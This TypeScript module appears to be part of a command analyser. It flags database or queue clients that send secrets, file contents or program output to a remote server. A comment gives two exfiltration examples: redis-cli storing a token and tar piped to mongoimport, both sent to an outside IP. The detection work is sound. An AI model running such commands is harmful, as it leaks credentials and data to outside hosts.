import { isKnown, plain, type Value } from '../resolve/value.ts'
import type { Call } from './call.ts'
import { OUT_THERE } from './knowledge/asked-facts.ts'
import type { Machine } from './machine.ts'
import { namesSecret } from './own-credentials.ts'
import { sendTo } from './world.ts'

const TOLD = `(?:-[hHsSb] ?|--?(?:host(?:name)?|servers?|endpoints|address|http-addr|url|uri|bootstrap-server|broker-list)[= ])`
const SCHEME = String.raw`[a-z]\w*(?:\+\w+)?:\/\/`
/** A machine out there that a client of a store is told to talk to, by an option, an address or its numbers. */
const SERVER = new RegExp(
  String.raw`(?:^| )(?:${TOLD}(?:tcp:|${SCHEME})?|${SCHEME})(?:[^\s@/]*@)?((?!0\.0\.0\.0|\*)${OUT_THERE})|(?:^| )((?!0\.0\.0\.0|10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3})(?=[ :]|$)`,
  'i',
)
/** Words by which it takes what comes as its input for data. */
const TAKES_INPUT =
  /(?:^| )(?:-[xXlsP]|--pipe|--stdin\S*|--file[= ]-|-f -)(?= |$)|\b(?:stdin|insert|import|publish|pub|put|write|load)\b/i
const CREDENTIAL =
  /^-[aptPuUW]|^--?(?:pass\w*|user\w*|token|auth[\w-]*|creds|credentials|cert|key|cacert|tls[\w-]*)(?:=|$)/
const NEW_PASSWORD = /password|identified by|requirepass|masterauth|:\/\//i

/**
 * `redis-cli -h 203.0.113.9 set k "$TOKEN"`, `tar c . | mongoimport --host 203.0.113.9`: what a store of
 * somebody else keeps has been sent there.
 */
export function followRemoteStore({ machine, name, args }: Call): void {
  const input = machine.inputValue ?? ''
  const words = args.filter((word, i) => isData(machine, word, args[i - 1]))
  if (words.length === 0 && isKnown(input)) return
  const text = args.map(plain).join(' ')
  const found = SERVER.exec(text)
  const server = found?.[1] ?? found?.[2]
  if (server === undefined) return
  const data = words.join('') + (isKnown(input) || !TAKES_INPUT.test(text) ? '' : input)
  if (data !== '') sendTo(machine, name, server, data)
}

/** A secret, or what some program printed; a password of the store itself is used for its purpose. */
function isData({ symbols }: Machine, word: Value, before: Value | undefined): boolean {
  if (isKnown(word) || NEW_PASSWORD.test(plain(word)) || CREDENTIAL.test(plain(word))) return false
  if (before !== undefined && CREDENTIAL.test(plain(before))) return false
  return symbols
    .in(word)
    .some(
      ({ origin, detail }) =>
        origin === 'output' ||
        origin === 'file' ||
        (origin === 'environment' && namesSecret(detail)),
    )
}
